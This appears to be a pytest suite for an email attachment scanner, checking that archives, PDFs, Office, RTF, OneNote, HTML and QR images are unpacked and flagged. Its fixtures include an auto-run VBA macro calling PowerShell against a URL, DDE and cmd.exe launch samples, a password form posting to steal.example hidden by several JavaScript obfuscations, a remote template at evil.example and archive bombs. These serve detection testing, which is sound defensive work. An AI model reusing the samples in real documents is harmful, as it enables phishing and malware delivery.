"""What is within archives, documents, pictures and pages of other formats is inspected like any attachment."""

from __future__ import annotations

import base64
import io
import struct
import subprocess
import sys
import zlib
from dataclasses import replace
from pathlib import Path

import pytest

from bridge.errors import ConfigError
from bridge.service.analysis.content.optional_formats import DEFAULT_FORMATS, LIBARCHIVE, QR_CODES, formats_of
from bridge.service.analysis.content.pdf_files import pdf_members
from bridge.service.analysis.content.unpacking import Budget
from bridge.service.analysis.content.vba import sources
from bridge.service.analysis.inspection import inspect
from bridge.service.analysis.limits import Limits
from bridge.service.analyzer_settings import Mime
from tests.long_cases import few
from tests.processor_time import fair_cpu_s
from tests.requirements import library, need
from tests.service.service_kit import CONFIG, EICAR, attached, service, zipped

ALL = Limits(formats=(*DEFAULT_FORMATS, LIBARCHIVE, QR_CODES))
FORM = b'<html><form action="https://steal.example/x"><input type="password" name="p"></form></html>'
LINK = "https://phish.example/login"


def tags(content: bytes, name: str = "a.bin") -> set[str]:
    found = inspect(attached(content, name), ALL)
    return found.tags | {f"limit:{limit}" for limit in found.limits} | {f"host:{host}" for host in found.hosts}


def number(value: int) -> bytes:
    """As RAR 5 writes it."""
    return bytes([value]) if value < 0x80 else bytes([value & 0x7F | 0x80]) + number(value >> 7)


def rar5(name: str, content: bytes, *, encrypted: bool = False, volume: bool = False) -> bytes:
    """A stored file. No free program writes the format."""

    def header(body: bytes) -> bytes:
        sized = number(len(body)) + body
        return struct.pack("<I", zlib.crc32(sized)) + sized

    extra = number(3) + b"\x01\x00\x00" if encrypted else b""
    file = number(2) + number(3 if extra else 2) + (number(len(extra)) if extra else b"") + number(len(content))
    file += number(4) + number(len(content)) + number(0o644) + struct.pack("<I", zlib.crc32(content)) + number(0)
    file += number(1) + number(len(name)) + name.encode() + extra
    return (
        b"Rar!\x1a\x07\x01\x00" + header(b"\x01\x00" + bytes([volume])) + header(file) + content + header(b"\x05\0\0")
    )


def written(format_name: str, filter_name: str | None = None) -> bytes:
    """An archive with the test virus, written by libarchive."""
    libarchive = library("libarchive", "archives")
    out: list[bytes] = []
    with libarchive.custom_writer(
        lambda data: out.append(bytes(data)) or len(data), format_name, filter_name
    ) as archive:
        archive.add_file_from_memory("eicar.com", len(EICAR), EICAR)
    return b"".join(out)


@pytest.mark.parametrize(
    "kind",
    [
        ("7zip",),
        ("iso9660",),
        ("cpio",),
        ("cpio_newc",),
        ("ar_bsd",),
        *(("ustar", f) for f in ("zstd", "lz4", "lzip", "compress")),
    ],
)
def test_the_files_in_other_archives_are_inspected(kind: tuple[str, ...]) -> None:
    found = tags(written(*kind))
    assert {"malware:eicar", "mime:executable"} <= found and "mime:unopened-archive" not in found
    assert "mime:unopened-archive" in inspect(attached(written(*kind)), Limits()).tags


def test_rar() -> None:
    library("libarchive", "archives")
    assert tags(rar5("eicar.com", EICAR)) == {"malware:eicar", "mime:executable"}
    assert "malware:eicar" in tags(b"junk before it" + rar5("eicar.com", EICAR), "a.rar")
    assert "malware:eicar" in tags(zipped(("a.rar", rar5("a.zip", zipped(("x", EICAR))))))
    assert "mime:encrypted-archive" in tags(rar5("a.txt", b"\x8a" * 64, encrypted=True))
    assert "mime:unopened-archive" in tags(rar5("a.txt", b"part", volume=True))


def cabinet(name: str, content: bytes) -> bytes:
    """A stored file, as in [MS-CAB]. Of the programs in Debian, libarchive only reads the format."""
    file = struct.pack("<IIHHHH", len(content), 0, 0, 0x5D71, 0, 0x20) + name.encode() + b"\0"
    data = struct.pack("<IHH", 0, len(content), len(content)) + content  # a checksum of 0: none
    start = 36 + 8 + len(file)
    head = struct.pack("<4sIIIIIBBHHHHH", b"MSCF", 0, start + len(data), 0, 44, 0, 3, 1, 1, 1, 0, 1, 0)
    return head + struct.pack("<IHH", start, 1, 0) + file + data


def test_cab() -> None:
    library("libarchive", "archives")
    assert tags(cabinet("eicar.com", EICAR), "a.cab") == {"malware:eicar", "mime:executable"}
    assert "malware:eicar" in tags(zipped(("a.cab", cabinet("a.zip", zipped(("x", EICAR))))))


@pytest.mark.parametrize("options", [["-psecret"], ["-psecret", "-mhe"]])
def test_an_encrypted_7z_archive_has_the_tag(options: list[str], tmp_path: Path) -> None:
    library("libarchive", "archives")
    need("7z")
    (tmp_path / "a.exe").write_bytes(b"MZ")
    subprocess.run(["7z", "a", "-bd", *options, "a.7z", "a.exe"], cwd=tmp_path, check=True, capture_output=True)
    assert "mime:encrypted-archive" in tags((tmp_path / "a.7z").read_bytes())


def test_a_bomb_and_damaged_archives_end_within_the_limits() -> None:
    library("libarchive", "archives")
    bomb = subprocess.run(["zstd", "-q"], input=bytes(4 << 20), capture_output=True, check=True).stdout
    assert inspect(attached(bomb), replace(ALL, extracted_bytes=1 << 20)).limits == {"archive-size"}
    assert "mime:unopened-archive" in tags(b"070701" + b"\xff" * 200)  # crashed the process
    assert "mime:unopened-archive" in tags(rar5("a", b"")[:8] + b"\0\0\0\0\x05\x02\x01\xff\x7f\0")
    for whole in (written("7zip"), written("iso9660"), rar5("a.txt", EICAR)):
        for end in range(40, len(whole), len(whole) // 7):
            assert not any(tag.startswith("failed") for tag in tags(whole[:end]))


def test_the_service_opens_rar_in_its_bounded_process(tmp_path: Path) -> None:
    library("libarchive", "archives")
    with service(tmp_path, CONFIG + "analyzers: {mime: {libarchive: true}}\n") as running:
        answer = running.submit(attached(rar5("eicar.com", EICAR), "a.rar")).json
    assert answer["decision"] == "quarantine" and "malware:eicar" in answer["tags"]


def test_a_missing_package_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    for package in ("libarchive", "zxingcpp"):
        monkeypatch.setitem(sys.modules, package, None)
    assert formats_of(Mime()) == DEFAULT_FORMATS
    with pytest.raises(ConfigError, match=r"scanbridge\[pictures\]"):
        formats_of(Mime(qr_codes=True))


def script(code: str) -> bytes:
    return f"<html><body><script>{code}</script></body></html>".encode()


PAGES = {
    "unescape": script("document.write(unescape('" + "".join(f"%{byte:02x}" for byte in FORM) + "'))"),
    "atob": script(f"document.write(atob('{base64.b64encode(FORM).decode()}'))"),
    "reversed": script(
        f"x='{base64.b64encode(FORM).decode()[::-1]}'.split('').reverse().join('');document.write(atob(x))"
    ),
    "numbers": script(f"document.write(String.fromCharCode({','.join(map(str, FORM))}))"),
    "escapes": script('document.write("' + "".join(f"\\x{byte:02x}" for byte in FORM) + '")'),
    "plain": FORM,
}


@pytest.mark.parametrize("kind", PAGES)
def test_a_form_that_a_script_writes_is_found(kind: str) -> None:
    assert {"attachment:credential-form", "host:steal.example"} <= tags(PAGES[kind], "a.html")


LETTERS = base64.b64encode(FORM)
ENCODED_TWICE = {
    "Base64 in Base64": base64.b64encode(LETTERS),
    "three times": base64.b64encode(base64.b64encode(LETTERS)),
    "unescape(atob())": base64.b64encode("".join(f"%{byte:02x}" for byte in FORM).encode()),
    "atob(unescape())": "".join(f"%{byte:02x}" for byte in LETTERS).encode(),
    "numbers in Base64": base64.b64encode(",".join(map(str, FORM)).encode()),
    "hexadecimal in Base64": base64.b64encode(FORM.hex().encode()),
    "compressed": base64.b64encode(zlib.compress(FORM)),
    "UTF-16": base64.b64encode(FORM.decode().encode("utf-16-le")),
}


@pytest.mark.parametrize("literal", ENCODED_TWICE.values(), ids=ENCODED_TWICE)
def test_a_page_that_was_encoded_twice_was_not_found(literal: bytes) -> None:
    found = tags(script(f"document.write(decoded('{literal.decode()}'))"), "a.html")
    assert {"attachment:builds-page", "attachment:credential-form", "host:steal.example"} <= found


@pytest.mark.parametrize("code", ["i['type']='password'", "$('<input>',{type:'password'})", '{"type": "password"}'])
def test_a_password_was_only_seen_in_an_attribute(code: str) -> None:
    assert "attachment:credential-form" in tags(script(code), "a.html")


def test_a_file_that_a_script_saves_is_inspected() -> None:
    data = base64.b64encode(zipped(("invoice.js", b"WScript.Echo(1)"))).decode()
    page = script(f'f="{data[:60]}"+"{data[60:]}";a.href=URL.createObjectURL(new Blob([atob(f)]));a.download="i.zip"')
    found = tags(page, "a.htm")
    assert {"attachment:builds-file", "mime:executable"} <= found and "mime:broken-archive" not in found
    assert tags(b"<html><a href='https://ok.example/'>x</a></html>", "a.html") == {"host:ok.example"}


@pytest.mark.parametrize("kind", ["PNG", "GIF", "JPEG", "BMP", "WEBP"])
def test_a_link_in_a_qr_code_is_a_link(kind: str) -> None:
    zxingcpp = library("zxingcpp", "pictures")
    image = library("PIL.Image", "pictures")
    code = zxingcpp.create_barcode(LINK, zxingcpp.BarcodeFormat.QRCode).to_image(scale=4)
    out = io.BytesIO()
    image.fromarray(code).convert("L").save(out, kind)
    expected = {"picture:qr-link", "host:phish.example"}
    assert tags(out.getvalue(), f"a.{kind.lower()}") == expected
    assert expected <= tags(zipped(("word/media/image1.bin", out.getvalue())), "a.docx")


def in_pdf(picture: bytes, mode: str, size: tuple[int, int], options: bytes = b"") -> bytes:
    spaces = {"1": b"/DeviceGray/BitsPerComponent 1", "L": b"/DeviceGray", "RGB": b"/DeviceRGB", "CMYK": b"/DeviceCMYK"}
    space = spaces.get(mode, b"[/Indexed/DeviceRGB 1 <FFFFFF000000>]")
    about = b"/Subtype/Image/Width %d/Height %d/ColorSpace %b" % (*size, space)
    if mode != "1":
        about += b"/BitsPerComponent 8"
    return pdf(b"<<%b/Filter/FlateDecode%b>>stream\n%b\nendstream" % (about, options, zlib.compress(picture)))


@pytest.mark.parametrize("mode", ["1", "L", "P", "RGB", "CMYK"])
def test_a_code_in_a_pdf_was_read_only_as_jpeg(mode: str) -> None:
    zxingcpp = library("zxingcpp", "pictures")
    image = library("PIL.Image", "pictures")
    code = image.fromarray(zxingcpp.create_barcode(LINK, zxingcpp.BarcodeFormat.QRCode).to_image(scale=4))
    raw = code.convert("L").point(lambda grey: grey < 128).tobytes() if mode == "P" else code.convert(mode).tobytes()
    expected = {"picture:qr-link", "host:phish.example"}
    assert tags(in_pdf(raw, mode, code.size), "a.pdf") == expected
    width = len(raw) // code.height
    rows = (
        b"".join(b"\1" + _differences(raw[at : at + width]) for at in range(0, len(raw), width)) if mode == "L" else b""
    )
    if rows:
        options = b"/DecodeParms<</Predictor 15/Colors 1/BitsPerComponent 8/Columns %d>>" % code.width
        assert tags(in_pdf(rows, mode, code.size, options), "a.pdf") == expected


def _differences(row: bytes) -> bytes:
    """The filter of PNG that subtracts the pixel on the left."""
    return bytes((byte - before) & 255 for before, byte in zip(b"\0" + row, row, strict=False))


def test_thousands_of_pictures_in_a_pdf_are_not_all_read() -> None:
    library("zxingcpp", "pictures")
    stream = b"<</Subtype/Image/Width 1000/Height 1000/BitsPerComponent 8/Filter/FlateDecode>>stream\n%b\nendstream"
    found = tags(pdf(*[stream % zlib.compress(bytes(1_000_000))] * 50), "a.pdf")
    assert found == {"picture:not-read"}


def test_pictures_in_a_pdf_that_contain_each_other_were_copied_without_end() -> None:
    """Gigabytes from a document of 300 KB: each began inside the one before it, and all had the same end."""
    start = b"<</Subtype/Image/Filter/FlateDecode/Width 42/Height 42/BitsPerComponent 8/Predictor 15>>stream\n"
    budget = Budget()
    found = list(pdf_members(pdf(start * 3000 + b"x\nendstream"), budget, reads_pictures=True))
    assert any("picture:not-read" in member.tags for member in found)
    assert sum(len(member.content or b"") for member in found) < 60_000_000
    assert Budget().picture_bytes - budget.picture_bytes < 60_000_000


def test_a_huge_picture_is_not_decoded() -> None:
    image = library("PIL.Image", "pictures")
    library("zxingcpp", "pictures")
    out = io.BytesIO()
    image.new("1", (20_000, 20_000)).save(out, "PNG")
    assert tags(out.getvalue(), "a.png") == {"picture:not-read"}
    damaged = out.getvalue()[:200].replace(struct.pack(">II", 20_000, 20_000), struct.pack(">II", 99, 99))
    assert tags(damaged, "a.png") == {"picture:not-read"}


def pdf(*objects: bytes) -> bytes:
    return b"%PDF-1.7\n" + b"".join(b"%d 0 obj\n%s\nendobj\n" % (n, body) for n, body in enumerate(objects, 1))


def stream(about: bytes, content: bytes) -> bytes:
    return b"<<%s/Filter/FlateDecode>>stream\n%s\nendstream" % (about, zlib.compress(content))


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (pdf(b"<</S/URI/URI(https://a.example/x)>>"), {"host:a.example"}),
        (pdf(b"<</S/URI/URI(\\150ttps://a.ex\\141mple/x)>>"), {"host:a.example"}),
        (pdf(b"<</S/URI/URI 2 0 R>>", b"<" + b"https://a.example/".hex().encode() + b">"), {"host:a.example"}),
        (pdf(stream(b"/Type/ObjStm", b"<</S/URI/URI(https://a.example/x)>>")), {"host:a.example"}),
        (pdf(b"<</Op#65nAction<</S/J#61vaScript/JS(x)>>>>"), {"pdf:javascript", "pdf:open-action"}),
        (pdf(b"<</S/Launch/F(cmd.exe)>>"), {"pdf:launch", "mime:executable"}),
        (pdf(stream(b"/Type/EmbeddedFile", EICAR)), {"pdf:embedded-file", "malware:eicar"}),
        (pdf(b"<</EF<</F 2 0 R>>/F(a.txt)>>", stream(b"", EICAR)), {"pdf:embedded-file", "malware:eicar"}),
        (pdf(b"<</Encrypt 2 0 R>>"), {"document:encrypted"}),
    ],
)
def test_pdf(content: bytes, expected: set[str]) -> None:
    assert tags(content, "a.pdf") == expected


def test_a_pdf_that_expands_is_read_to_the_limit() -> None:
    assert tags(pdf(stream(b"/Type/EmbeddedFile", bytes(200 << 20))), "a.pdf") == {"limit:archive-size"}


def relations(kind: str, target: str) -> bytes:
    return (
        f'<Relationships><Relationship Id="r" Type="http://x/{kind}" Target="{target}" TargetMode="External"/>'.encode()
    )


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        (
            "word/_rels/settings.xml.rels",
            relations("attachedTemplate", "https://a.example/t"),
            "office:remote-template",
        ),
        ("word/_rels/document.xml.rels", relations("oleObject", "https://a.example/t"), "office:remote-object"),
        ("word/_rels/document.xml.rels", relations("hyperlink", "https://a.example/t"), "host:a.example"),
        ("word/_rels/document.xml.rels", relations("hyperlink", "https://b.example()@a.example/t"), "host:a.example"),
        ("word/_rels/document.xml.rels", relations("hyperlink", "https:/b.example'(@a.example"), "host:a.example"),
        ("word/document.xml", b"<w:instrText>DD</w:instrText><w:instrText>EAUTO cmd</w:instrText>", "office:dde"),
        ("xl/externalLinks/a.xml", b"<ddeLink ddeService='cmd'>", "office:dde"),
        ("xl/workbook.xml", b"<definedName name='_xlnm.Auto_Open'>", "office:auto-macro"),
    ],
)
def test_parts_of_office_documents(name: str, content: bytes, expected: str) -> None:
    assert expected in tags(zipped((name, content)), "a.docx")


def ole(streams: dict[str, bytes]) -> bytes:
    """Streams of at least 4,096 bytes, one after the other, in a file with one sector of its table."""
    table, directory, data = [0xFFFFFFFD, 0xFFFFFFFE], entry("Root Entry", 5, 0xFFFFFFFE, 0), b""
    for name, content in streams.items():
        content = content.ljust(4096, b"\0")
        content += bytes(-len(content) % 512)
        directory += entry(name, 2, len(table), len(content))
        table += [*range(len(table) + 1, len(table) + len(content) // 512), 0xFFFFFFFE]
        data += content
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH", 62, 3, 0xFFFE, 9, 6) + bytes(6)
    header += struct.pack("<IIIIIIIIII", 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0, 0) + b"\xff" * (512 - 80)
    sector = struct.pack(f"<{len(table)}I", *table).ljust(512, b"\xff")
    return header + sector + directory.ljust(512, b"\0") + data


def entry(name: str, kind: int, start: int, size: int) -> bytes:
    wide = (name + "\0").encode("utf-16-le")
    return wide.ljust(64, b"\0") + struct.pack("<HBB", len(wide), kind, 1) + bytes(48) + struct.pack("<IQ", start, size)


def vba(source: bytes) -> bytes:
    """Compressed without references: each group of eight bytes has a flag byte of zero."""
    body = b"".join(b"\0" + source[at : at + 8] for at in range(0, len(source), 8))
    return b"\x01" + struct.pack("<H", (len(body) - 1) | 0xB000) + body


MACRO = b'Attribute VB_Name = "M"\r\nSub AutoOpen()\r\nShell "powershell https://a.example/x"\r\nEnd Sub\r\n'
PACKAGE = b"\0\0\0\0\x02\0a.js\0C:\\a.js\0\0\0\x03\0\x01\0\0\0\0" + struct.pack("<I", len(EICAR)) + EICAR


def test_old_office_documents() -> None:
    assert list(sources(b"junk" + vba(MACRO), Budget())) == [MACRO]
    macro = {"mime:macro", "office:auto-macro", "office:macro-runs-program", "host:a.example"}
    assert macro <= tags(ole({"Module1": vba(MACRO)}), "a.doc")
    assert macro <= tags(zipped(("word/vbaProject.bin", ole({"Module1": vba(MACRO)}))), "a.docm")
    embedded = {"office:embedded-file", "malware:eicar", "mime:executable"}
    assert embedded <= tags(ole({"\x01Ole10Native": PACKAGE}), "a.doc")
    assert tags(ole({"EncryptedPackage": b"x"}), "a.docx") >= {"document:encrypted"}
    assert "office:equation" in tags(ole({"Equation Native": b"x"}), "a.doc")
    assert "malware:eicar" in tags(ole({"__substg1.0_37010102": EICAR}), "a.msg")


def test_rtf_and_onenote() -> None:
    head = struct.pack("<III", 0x501, 2, 8) + b"Package\0" + bytes(8) + struct.pack("<I", len(PACKAGE))
    digits = (head + PACKAGE[4:]).hex()
    rtf = "{\\rtf1{\\object{\\*\\objdata " + digits[:30] + "{\\*\\x 99}\r\n" + digits[30:] + "}}}"
    assert {"office:embedded-file", "malware:eicar", "mime:executable"} <= tags(rtf.encode(), "a.doc")
    assert "office:remote-template" in tags(b"{\\rtf1{\\*\\template https://a.example/t}}", "a.rtf")
    note = bytes.fromhex("e4525c7b8cd8a74d") + bytes(64) + bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
    assert "malware:eicar" in tags(note + struct.pack("<Q", len(EICAR)) + bytes(12) + EICAR, "a.one")


HOSTILE = {
    "streams": b"%PDF-" + b"1 0 obj<<>>stream\n" * 40_000,
    "strings": b"%PDF-" + b"/URI (http://a(\\" * 40_000,
    "objects": b"%PDF-" + b"1 0 obj " * 40_000 + b"stream\nendstream" * 40_000,
    "objdata": b"{\\rtf" + b"{\\objdata 0" * 40_000,
    "literals": b"<script>" + b"'" + b"A" * 400_000 + b"'+'" + b"[1,2" * 40_000,
    "vba": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(22) + b"\x09" + bytes(500) + b"\x01xx\0Attribut" * 40_000,
    "relations": b"PK" + b"<Relationship " * 40_000,
    "ascii85": b"%PDF-1 0 obj<</Type/ObjStm/Filter/A85>>stream\n" + b"z" * 4_000_000 + b"\nendstream",
    "names": bytes.fromhex("e4525c7b8cd8a74de716e3bd65261145a4c48d4d0b7a9eac")
    + b"\x04".ljust(24, b"\0")
    + b"a\0.\0" * 2_000_000,
    "fields": b"{\\rtf" + b"{\\fldinst DDE \\'41}" * 200_000,
}


@pytest.mark.parametrize("kind", few(HOSTILE, 9))
def test_hostile_documents_take_little_time(kind: str) -> None:
    name = {"literals": "a.html", "relations": "a.rels"}.get(kind, "a.bin")
    assert fair_cpu_s(lambda: tags(HOSTILE[kind], name)) < 6


def test_documents_within_documents_end() -> None:
    content = FORM
    for _ in range(10):
        content = script(f"document.write(atob('{base64.b64encode(content).decode()}'))")
    assert "limit:archive-depth" in tags(content, "a.html")


def test_an_ordinary_mail_imports_nothing() -> None:
    """Neither a decoder of pictures nor libarchive is imported until a mail needs one."""
    heavy = "{'PIL', 'zxingcpp', 'libarchive', 'pikepdf'}"
    code = f"import sys, bridge.service.analysis.pipeline; print({heavy} & set(sys.modules))"
    ran = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert ran.stdout.strip() == "set()"


@pytest.mark.parametrize("mark", [b"<!-- %PDF-1.7 -->", b"BM" + bytes(12)])
def test_the_mark_of_another_format_hid_a_page(mark: bytes) -> None:
    """Programs go by the name of a file, so every reader looks at it."""
    page = b'<html><script>document.write(atob("' + base64.b64encode(FORM * 3) + b'"))</script></html>'
    assert {"attachment:builds-page", "attachment:credential-form"} <= tags(mark + page, "a.html")


def test_the_mark_of_a_pdf_hid_an_rtf_object() -> None:
    template = b"{\\rtf1 %PDF-1.7 {\\*\\template http://evil.example/x.dotm}}"
    assert "office:remote-template" in tags(template, "a.rtf")
